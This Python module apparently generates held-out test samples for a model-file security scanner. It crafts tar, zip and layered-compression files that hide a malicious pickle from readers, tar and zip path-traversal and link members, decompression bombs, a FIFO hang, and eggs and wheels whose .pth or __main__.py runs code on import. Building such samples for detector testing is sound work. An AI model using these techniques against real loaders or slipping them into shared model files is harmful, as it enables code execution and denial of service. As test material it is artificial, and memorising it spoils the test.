"""Held-out attacks: archives and compressed layers that the first set hardly had."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator

from corpora.unseen_archives import _pile, npy, tarred, torch_zip, zipped
from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    EVIL,
    FOREIGN,
    HIDDEN,
    NAME,
    PATH,
    SLIP,
    WRITE,
    Attack,
)

HONEST = pickle.dumps({"weights": [1.0, 2.0]}, 2)
ANY = CALL | HIDDEN | FOREIGN | BROKEN
UNTAR = "import tarfile, os; os.makedirs('x', exist_ok=True); t = tarfile.open(F); t.extractall('x', filter='fully_trusted')"
LOADS = "pickle.loads(t.extractfile(t.getmembers()[-1]).read())"
TARPICKLE = f"import tarfile, pickle; t = tarfile.open(F); {LOADS}"
ZIPPICKLE = "import zipfile, pickle; z = zipfile.ZipFile(F); pickle.loads(z.read(z.namelist()[-1]))"


def rows(
    family: str, loader: str, file: str, load: str, rules: frozenset[str], table: dict[str, tuple]
) -> Iterator[Attack]:
    for what, (does, data, *rest) in table.items():
        own, using, proof = [*rest, None, None, None][:3]
        files = data if isinstance(data, dict) else {file: data}
        yield Attack(
            f"{family}/{what}", family, files, loader, using or load, does, own or rules, "main", proof or "mark"
        )


def _header(
    name: bytes, size: int, kind: bytes = b"0", link: bytes = b"", magic: bytes = b"ustar\x0000", **at: bytes
) -> bytes:
    block = bytearray(512)
    block[0 : len(name)] = name
    block[100:124] = b"0000644\x000000000\x000000000\x00"
    block[124:136] = b"%011o\x00" % size
    block[136:148] = b"00000000000\x00"
    block[156:157] = kind
    block[157 : 157 + len(link)] = link
    block[257 : 257 + len(magic)] = magic
    for place, value in at.items():
        start = int(place[1:])
        block[start : start + len(value)] = value
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\x00 " % sum(block)
    return bytes(block)


def _pad(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def _pax(**records: str) -> bytes:
    out = b""
    for key, value in records.items():
        line = f" {key.replace('__', '.')}={value}\n".encode()
        size = len(line) + len(str(len(line) + 2))
        out += b"%d" % (len(line) + len(str(size))) + line
    return _header(b"pax", len(out), b"x") + _pad(out)


END = b"\0" * 1024


def tars() -> Iterator[Attack]:
    sparse_map = b"1\n0\n%d\n" % len(EVIL)
    sparse = _pax(
        GNU__sparse__major="1",
        GNU__sparse__minor="0",
        GNU__sparse__name="model.pkl",
        GNU__sparse__realsize=str(len(EVIL)),
    )
    body = sparse_map.ljust(512, b"\0") + EVIL
    old_sparse = b"%011o\x00%011o\x00" % (0, len(EVIL))
    base256 = b"\x80" + len(EVIL).to_bytes(11, "big")
    two = _header(b"a.pkl", len(HONEST)) + _pad(HONEST) + END
    fifo = _header(b"weights.bin", 0, b"6")
    big = _header(
        b"w.bin", 1 << 20, b"S", magic=b"ustar  \x00", _386=b"%011o\x00%011o\x00" % (0, 0), _483=b"77777777777\x00"
    )
    link = _header(b"d", 0, b"2", b"/tmp") + _header(b"d/MARK", 1) + _pad(b"x") + END
    table = {
        "sparse-pax": ("a sparse member of version 1.0 is a pickle", sparse + _header(b"GNUSparseFile.0/model.pkl", len(body)) + _pad(body) + END),
        "sparse-old": ("a sparse member of old GNU tar is a pickle", _header(b"model.pkl", len(EVIL), b"S", magic=b"ustar  \x00", _386=old_sparse, _483=b"%011o\x00" % len(EVIL)) + _pad(EVIL) + END),
        "pax-path": ("a pax header renames the member to a path above", _pax(path="../../../../MARK") + _header(b"model.pkl", 1) + _pad(b"x") + END, SLIP | {"model-container-tampered"}, UNTAR),
        "pax-linkpath": ("a pax header gives the link another target", _pax(linkpath="/tmp/outside/canary.txt") + _header(b"vocab.txt", 0, b"2", b"other.txt") + END, PATH | {"model-container-tampered"}, UNTAR + "; print(open('x/vocab.txt').read())"),
        "pax-size": ("a pax header gives the member another size: the pickle hides behind for other readers", _pax(size=str(len(EVIL))) + _header(b"model.pkl", 0) + _pad(EVIL) + END, ANY, TARPICKLE),
        "pax-global": ("a global header renames what comes behind it", _header(b"g", 0, b"g")[:0] + _pax(path="../../../../MARK").replace(b"ustar", b"ustar") + _header(b"a", 1) + _pad(b"x") + END, SLIP | {"model-container-tampered"}, UNTAR),
        "long-name": ("GNU's long name leads above", _header(b"././@LongLink", 17, b"L", magic=b"ustar  \x00") + _pad(b"../../../../MARK\x00") + _header(b"a", 1, magic=b"ustar  \x00") + _pad(b"x") + END, SLIP, UNTAR),
        "long-link": ("GNU's long link leads outside", _header(b"././@LongLink", 24, b"K", magic=b"ustar  \x00") + _pad(b"/tmp/outside/canary.txt\x00") + _header(b"vocab.txt", 0, b"2", magic=b"ustar  \x00") + END, PATH, UNTAR + "; print(open('x/vocab.txt').read())"),
        "prefix-field": ("the prefix field completes the path", _header(b"MARK", 1, _345=b"../../../..") + _pad(b"x") + END, SLIP, UNTAR),
        "v7": ("a tar from before ustar, without magic", _header(b"model.pkl", len(EVIL), magic=b"\0" * 8) + _pad(EVIL) + END),
        "base-256": ("the size is in base 256", _header(b"model.pkl", len(EVIL), _124=base256) + _pad(EVIL) + END),
        "hard-link": ("a hard link to a file outside, then a member of that name writes through it", _header(b"w", 0, b"1", b"/tmp/outside/canary.txt") + _header(b"w", 3) + _pad(b"new") + END, PATH, "import tarfile, os; t = tarfile.open(F); os.link('/tmp/outside/canary.txt', 'w'); open('w', 'r+b').write(t.extractfile(t.getmembers()[1]).read())"),
        "link-through": ("a link to /tmp, then a file through it", link, SLIP, UNTAR),
        "fifo": ("a named pipe: who opens the weights waits for ever", fifo + END, PATH | FOREIGN | BOMB | {"model-container-tampered"}, UNTAR + "; open('x/weights.bin').read()", "bomb"),
        "second-archive": ("a second tar behind the end of the first", two + _header(b"b.pkl", len(EVIL)) + _pad(EVIL) + END, ANY, "import tarfile, pickle; t = tarfile.open(F, ignore_zeros=True); " + LOADS),
        "same-name": ("two members of one name; unpacking leaves the second", _header(b"m.pkl", len(HONEST)) + _pad(HONEST) + _header(b"m.pkl", len(EVIL)) + _pad(EVIL) + END, ANY, UNTAR + "; import pickle; pickle.load(open('x/m.pkl', 'rb'))"),
        "in-padding": ("the pickle lies in the padding behind an empty member", _header(b"m.pkl", 1) + b"x" + EVIL.ljust(511, b"\0") + END, ANY, "import pickle; f = open(F, 'rb'); f.seek(513); pickle.load(f)"),
        "after-end": ("the pickle lies behind the end of the archive", _header(b"a", 1) + _pad(b"x") + END + EVIL, ANY, "import pickle; f = open(F, 'rb'); f.seek(2048); pickle.load(f)"),
        "sparse-bomb": ("a sparse member of 8 GB in a few bytes", big + END, BOMB | BROKEN | {"model-container-tampered"}, UNTAR + "; open('x/w.bin').read()", "bomb"),
        "tar-in-tar": ("five tars in each other", _nest(EVIL, 5), None, "import tarfile, io, pickle\nd = open(F, 'rb').read()\nfor i in range(5):\n    t = tarfile.open(fileobj=io.BytesIO(d)); d = t.extractfile(t.getmembers()[0]).read()\npickle.loads(d)"),
        "contiguous": ("a member of type 7 is a pickle", _header(b"model.pkl", len(EVIL), b"7") + _pad(EVIL) + END),
        "vendor-type": ("a member of a vendor's type is a pickle, which Python reads as a file", _header(b"model.pkl", len(EVIL), b"Z") + _pad(EVIL) + END),
        "torch-inside": ("a torch file inside of a compressed tar inside of a zip", zipped(("a.tar.xz", lzma.compress(tarred(("m.pt", torch_zip(), {}))))), None, "import zipfile, tarfile, io, torch; z = zipfile.ZipFile(F); t = tarfile.open(fileobj=io.BytesIO(z.read('a.tar.xz'))); torch.load(io.BytesIO(t.extractfile('m.pt').read()), weights_only=False)"),
    }  # fmt: skip
    yield from rows("tar2", "tarfile, as unpackers of .nemo and .tar.gz", "m.tar", TARPICKLE, CALL, table)


def _nest(data: bytes, depth: int) -> bytes:
    for _ in range(depth):
        data = tarred(("m", data, {}))
    return data


def _plain(
    name: bytes,
    data: bytes,
    method: int = 0,
    packed: bytes | None = None,
    flags: int = 0,
    extra: bytes = b"",
    local: bytes | None = None,
    sizes: tuple[int, int] | None = None,
) -> bytes:
    """A zip of one member, by hand."""
    body = data if packed is None else packed
    low, full = sizes or (len(body), len(data))
    head = struct.pack("<HHHHHIII", 20, flags, method, 0, 0x21, zlib.crc32(data), low, full)
    first = b"PK\x03\x04" + head + struct.pack("<HH", len(local or name), len(extra)) + (local or name) + extra + body
    last = b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, 0, 0) + name + extra
    return first + last + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(last), len(first), 0)


def _crypt(data: bytes, password: bytes) -> bytes:
    """Traditional PKWARE encryption."""
    keys = [0x12345678, 0x23456789, 0x34567890]
    crc = lambda c, b: zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(byte: int) -> None:
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 255)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in b"\0" * 11 + bytes([zlib.crc32(data) >> 24]) + data:
        k = (keys[2] & 0xFFFF) | 2
        out.append(byte ^ (k * (k ^ 1) >> 8 & 255))
        update(byte)
    return bytes(out)


def zips() -> Iterator[Attack]:
    lz = lzma.LZMACompressor(
        lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}]
    )
    lzma_body = b"\x09\x14\x05\x00" + bytes([93]) + struct.pack("<I", 1 << 16) + lz.compress(EVIL) + lz.flush()
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = deflate.compress(EVIL) + deflate.flush()
    unicode_path = b"archive/other.pkl"
    up = struct.pack("<HHBI", 0x7075, 5 + len(unicode_path), 1, zlib.crc32(b"data.pkl")) + unicode_path
    good = torch_zip(HONEST)
    wide = struct.pack("<HHQQQ", 1, 24, len(EVIL), len(EVIL), 0)
    z64 = _zip64(b"archive/data.pkl", EVIL)
    descriptor = _descriptor(b"data.pkl", EVIL)
    half = len(zipped(("data.pkl", EVIL))) // 2
    whole = zipped(("data.pkl", EVIL))
    leaf = _pile([f"m{j}.bin" for j in range(40)], b"\0" * (1 << 22))
    quine = zipped(*((f"l{i}.zip", leaf) for i in range(40)), method=8)
    egg = zipped(("payload.py", f"{WRITE}\nclass Model: pass\n".encode()), ("EGG-INFO/PKG-INFO", b"Name: m\n"))
    table = {
        "method-bzip2": ("the member is packed by bzip2", _plain(b"model.pkl", EVIL, 12, bz2.compress(EVIL))),
        "method-lzma": ("the member is packed by LZMA", _plain(b"model.pkl", EVIL, 14, lzma_body, flags=2)),
        "method-zstd": ("the member is packed by Zstandard", _plain(b"model.pkl", EVIL, 93, _zstd(EVIL)), None, "import zipfile, pickle, zstandard; d = open(F, 'rb').read(); n, m = __import__('struct').unpack_from('<HH', d, 26); pickle.loads(zstandard.ZstdDecompressor().decompressobj().decompress(d[30 + n + m:]))"),
        "encrypted": ("the member is encrypted, the password is in the loader", _plain(b"model.pkl", EVIL, 0, _crypt(EVIL, b"model"), flags=1), ANY, "import zipfile, pickle; z = zipfile.ZipFile(F); pickle.loads(z.read('model.pkl', pwd=b'model'))"),
        "encrypted-beside": ("one member of an honest torch file is encrypted", _joined(good, b"archive/extra.pkl", EVIL), ANY, "import zipfile, pickle; z = zipfile.ZipFile(F); pickle.loads(z.read('archive/extra.pkl', pwd=b'model'))"),
        "unicode-path": ("the Unicode path field names the member otherwise", _plain(b"data.pkl", EVIL, extra=up), ANY),
        "zip64": ("every size is in the zip64 records", z64),
        "zip64-extra": ("sizes in the zip64 field though they are small", _plain(b"model.pkl", EVIL, extra=wide, sizes=(0xFFFFFFFF, 0xFFFFFFFF)), ANY),
        "descriptor": ("sizes come behind the data, the local header has none", descriptor, ANY),
        "local-name": ("the local header names the member otherwise", _plain(b"model.pkl", EVIL, local=b"notes.txt"), ANY, "import pickle; d = open(F, 'rb').read(); pickle.loads(d[39:])"),
        "stored-as-deflated": ("the directory says stored, the local header deflated", _methods(EVIL, deflated), ANY, "import zlib, pickle; d = open(F, 'rb').read(); pickle.loads(zlib.decompress(d[39:], -15))"),
        "split": ("an archive in two volumes, put together before it is loaded", {"m.zip.001": whole[:half], "m.zip.002": whole[half:]}, ANY, "import zipfile, io, pickle; d = b''.join(open(f'm.zip.00{i}', 'rb').read() for i in (1, 2)); pickle.loads(zipfile.ZipFile(io.BytesIO(d)).read('data.pkl'))"),
        "two-ends": ("the comment of the archive is another archive's directory", _two_ends(), ANY, "import zipfile, pickle; z = zipfile.ZipFile(F); pickle.loads(z.read('data.pkl'))"),
        "backslash": ("a name with backslashes, which some unpackers take for folders", zipped(("..\\..\\..\\..\\MARK", b"x")), SLIP, "import zipfile, os\nfor i in zipfile.ZipFile(F).infolist():\n    open(os.path.join('.', i.orig_filename.replace('\\\\', '/')), 'wb').write(b'x')"),
        "drive": ("a name with a drive", zipped(("C:/Windows/System32/evil.dll", b"MZ")), SLIP | ANY, None, "kept: for unpackers on Windows"),
        "null-name": ("a name with a zero byte: readers end it there", _plain(b"model.pkl\0.txt", EVIL), ANY | SLIP),
        "folder-data": ("an entry that is a folder by its name has data", _plain(b"model/", EVIL), ANY),
        "bomb-nested": ("40 archives of 40 members of zeros", quine, BOMB, "import zipfile, io; z = zipfile.ZipFile(F); k = [zipfile.ZipFile(io.BytesIO(z.read(n))) for n in z.namelist()]; x = [i.read(n) for i in k for n in i.namelist()]", "bomb"),
        "egg": ("an egg is imported from", {"m.egg": egg}, ANY | NAME | {"model-config-remote-code"}, "import sys; sys.path.insert(0, F); import payload"),
        "wheel-script": ("a wheel brings a .pth file, which runs at every start once it is installed", {"m-1-py3-none-any.whl": zipped(("m.pth", f"import os; {WRITE}\n".encode()), ("m-1.dist-info/RECORD", b""))}, ANY | {"model-config-remote-code"}, "import zipfile, site; zipfile.ZipFile(F).extractall('x'); site.addsitedir('x')"),
        "appended-safetensors": ("an archive behind a safetensors file", _safetensors() + zipped(("__main__.py", WRITE.encode())), ANY | {"model-unexplained-bytes"}, "import runpy; runpy.run_path(F, run_name='__main__')"),
        "appended-onnx": ("an archive behind an ONNX model", bytes.fromhex("080a3a0a0a0012016722022801") [:2] + zipped(("data.pkl", EVIL)), ANY, ZIPPICKLE),
        "appended-npy": ("an archive behind an array", npy("'<f4'", "(1,)", b"\0" * 4) + zipped(("data.pkl", EVIL)), ANY, ZIPPICKLE),
        "thousands": ("300,000 members without content", _thousands(300_000), BOMB | BROKEN, "import zipfile, os; z = zipfile.ZipFile(F); z.extractall('x')", "bomb"),
    }  # fmt: skip
    yield from rows("zip2", "zipfile", "m.zip", ZIPPICKLE, CALL, table)


def _thousands(count: int) -> bytes:
    first, last = bytearray(), bytearray()
    for number in range(count):
        name = b"%07x" % number
        head = struct.pack("<HHHHHIII", 20, 0, 0, 0, 0x21, 0, 0, 0)
        last += b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHHHII", 7, 0, 0, 0, 0, 0, len(first)) + name
        first += b"PK\x03\x04" + head + struct.pack("<HH", 7, 0) + name
    end64 = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, len(last), len(first))
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, len(first) + len(last), 1)
    return (
        bytes(first + last)
        + end64
        + locator
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def _zip64(name: bytes, data: bytes) -> bytes:
    one = _plain(name, data)
    at = one.index(b"PK\x01\x02")
    directory = one[at:-22]
    end64 = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1, 1, len(directory), at)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, at + len(directory), 1)
    return (
        one[:-22]
        + end64
        + locator
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def _descriptor(name: bytes, data: bytes) -> bytes:
    one = bytearray(_plain(name, data, flags=8))
    one[14:26] = b"\0" * 12
    tail = b"PK\x07\x08" + struct.pack("<III", zlib.crc32(data), len(data), len(data))
    at = one.index(b"PK\x01\x02")
    out = bytes(one[:at]) + tail + bytes(one[at:-22])
    return out + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(one) - 22 - at, at + len(tail), 0)


def _methods(data: bytes, deflated: bytes) -> bytes:
    one = bytearray(_plain(b"model.pkl", deflated))
    one[8:10] = struct.pack("<H", 8)
    one[22:26] = struct.pack("<I", len(data))
    return bytes(one)


def _joined(good: bytes, name: bytes, data: bytes) -> bytes:
    out = io.BytesIO(good)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name.decode(), b"?" * (len(data) + 12))
    raw = bytearray(out.getvalue())
    body = _crypt(data, b"model")
    at = raw.rindex(b"PK\x03\x04")
    start = at + 30 + len(name)
    raw[start : start + len(body)] = body
    for place, offset in ((at, 6), (raw.rindex(b"PK\x01\x02"), 8)):
        raw[place + offset] |= 1
        raw[place + offset + 8 : place + offset + 12] = struct.pack("<I", zlib.crc32(data))
        raw[place + offset + 16 : place + offset + 20] = struct.pack("<I", len(data))
    return bytes(raw)


def _two_ends() -> bytes:
    honest = zipped(("data.pkl", HONEST))
    evil = _plain(b"data.pkl", EVIL)
    comment = evil
    return honest[:-2] + struct.pack("<H", len(comment)) + comment


def _zstd(data: bytes) -> bytes:
    """One raw block."""
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(data)]) + struct.pack("<I", len(data) << 3 | 1)[:3] + data


def _safetensors() -> bytes:
    head = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'.ljust(56)
    return struct.pack("<Q", len(head)) + head + b"\0" * 4


def layers() -> Iterator[Attack]:
    """One compression in another; frames that readers skip; what pandas unpacks by its name."""
    skip = b"\x50\x2a\x4d\x18" + struct.pack("<I", len(EVIL)) + EVIL
    lz4 = b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(EVIL) | 1 << 31) + EVIL + b"\0\0\0\0"
    legacy = b"\x02\x21\x4c\x18" + struct.pack("<I", len(EVIL) + 2) + bytes([0xF0, len(EVIL) - 15]) + EVIL
    pandas = "import pandas; pandas.read_pickle(F)"
    onion = EVIL
    for number in range(12):
        onion = (gzip.compress(onion, mtime=0), bz2.compress(onion), lzma.compress(onion))[number % 3]
    peel = "import gzip, bz2, lzma, pickle\nd = open(F, 'rb').read()\nfor i in reversed(range(12)): d = (gzip, bz2, lzma)[i % 3].decompress(d)\npickle.loads(d)"
    dictionary = zlib.compressobj(9, zlib.DEFLATED, 15, 8, 0, EVIL)
    presets = dictionary.compress(EVIL) + dictionary.flush()
    squeezed = gzip.compress(gzip.compress(b"\0" * (1 << 24), mtime=0) * 128, mtime=0)
    table = {
        "onion": ("twelve layers of gzip, bzip2 and xz", onion, None, peel),
        "gzip-second": ("the second gzip member is the pickle, for readers of streams", gzip.compress(HONEST) + gzip.compress(EVIL), CALL | HIDDEN, "import gzip, pickle; f = gzip.open(F); pickle.load(f); pickle.load(f)"),
        "gzip-trailer": ("the pickle follows the gzip stream as it is", gzip.compress(HONEST) + EVIL, CALL | HIDDEN, "import zlib, pickle; d = zlib.decompressobj(31); d.decompress(open(F, 'rb').read()); pickle.loads(d.unused_data)"),
        "gzip-extra": ("the pickle lies in gzip's extra field", b"\x1f\x8b\x08\x04" + b"\0" * 6 + struct.pack("<H", len(EVIL)) + EVIL + gzip.compress(HONEST)[10:], CALL | HIDDEN, "import pickle; pickle.loads(open(F, 'rb').read()[12:])"),
        "lz4-legacy": ("an LZ4 frame of the old kind", legacy, CALL | HIDDEN, "import lz4.block, pickle; d = open(F, 'rb').read()[8:]; pickle.loads(lz4.block.decompress(d, uncompressed_size=4096))"),
        "lz4-skippable": ("the pickle lies in a frame that LZ4 skips", skip + lz4.replace(EVIL, HONEST.ljust(len(EVIL), b".")), CALL | HIDDEN, "import pickle; f = open(F, 'rb'); f.seek(8); pickle.load(f)"),
        "zstd-skippable": ("the pickle lies in a frame that Zstandard skips", _zstd(HONEST) + skip, CALL | HIDDEN, f"import pickle; f = open(F, 'rb'); f.seek({len(_zstd(HONEST)) + 8}); pickle.load(f)"),
        "zstd-frames": ("two Zstandard frames hold a half of the pickle each", _zstd(EVIL[:9]) + _zstd(EVIL[9:]), CALL, "import zstandard, pickle, io; pickle.load(io.BufferedReader(zstandard.ZstdDecompressor().stream_reader(open(F, 'rb'), read_across_frames=True)))"),
        "zlib-dictionary": ("zlib with a preset dictionary that the loader knows", presets, ANY, f"import zlib, pickle; pickle.loads(zlib.decompressobj(zdict={EVIL!r}).decompress(open(F, 'rb').read()))"),
        "deflate-raw": ("a raw deflate stream", _raw(EVIL), ANY, "import zlib, pickle; pickle.loads(zlib.decompress(open(F, 'rb').read(), -15))"),
        "base64": ("the pickle in base64", __import__("base64").b64encode(EVIL), ANY, "import base64, pickle; pickle.loads(base64.b64decode(open(F, 'rb').read()))"),
        "xored": ("the pickle XOR 0x5a, for a loader that knows", bytes(b ^ 0x5A for b in EVIL), ANY, "import pickle; pickle.loads(bytes(b ^ 0x5a for b in open(F, 'rb').read()))"),
        "pandas-zip": ("pandas unpacks a zip before it unpickles", {"m.pkl.zip": zipped(("m.pkl", EVIL), method=8)}, None, pandas),
        "pandas-tar": ("pandas unpacks a tar.gz before it unpickles", {"m.pkl.tar.gz": gzip.compress(tarred(("m.pkl", EVIL, {})), mtime=0)}, None, pandas),
        "pandas-zst": ("pandas unpacks Zstandard before it unpickles", {"m.pkl.zst": _zstd(EVIL)}, None, pandas),
        "pandas-xz": ("pandas unpacks xz before it unpickles", {"m.pkl.xz": lzma.compress(EVIL)}, None, pandas),
        "joblib-nested": ("joblib of gzip whose object array is a pickle with bytes that are zlib of a pickle", _joblib(), None, "import joblib, pickle, zlib; pickle.loads(zlib.decompress(joblib.load(F)['raw']))"),
        "gzip-of-gzip": ("gzip of gzip of 2 GB of zeros", squeezed, BOMB, "import gzip; d = gzip.decompress(gzip.decompress(open(F, 'rb').read()))", "bomb"),
        "xz-bomb": ("xz of 2 GB of zeros", lzma.compress(b"\0" * (1 << 24)) * 128, BOMB, "import lzma; d = lzma.open(F).read()", "bomb"),
        "torch-zip-gzip": ("a torch file in gzip, as some loaders unpack", gzip.compress(torch_zip(), mtime=0), None, "import gzip, io, torch; torch.load(io.BytesIO(gzip.open(F).read()), weights_only=False)"),
        "npy-in-gzip": ("an object array in gzip", {"a.npy.gz": gzip.compress(npy("'|O'", "(1,)", EVIL), mtime=0)}, None, "import gzip, numpy; numpy.load(gzip.open(F), allow_pickle=True)"),
    }  # fmt: skip
    yield from rows("layers2", "gzip, lzma, pandas, joblib", "m.pkl", "import joblib; joblib.load(F)", CALL, table)


def _raw(data: bytes) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(data) + deflate.flush()


def _joblib() -> bytes:
    return gzip.compress(pickle.dumps({"raw": zlib.compress(EVIL)}, 4), mtime=0)


def attacks() -> Iterator[Attack]:
    yield from tars()
    yield from zips()
    yield from layers()
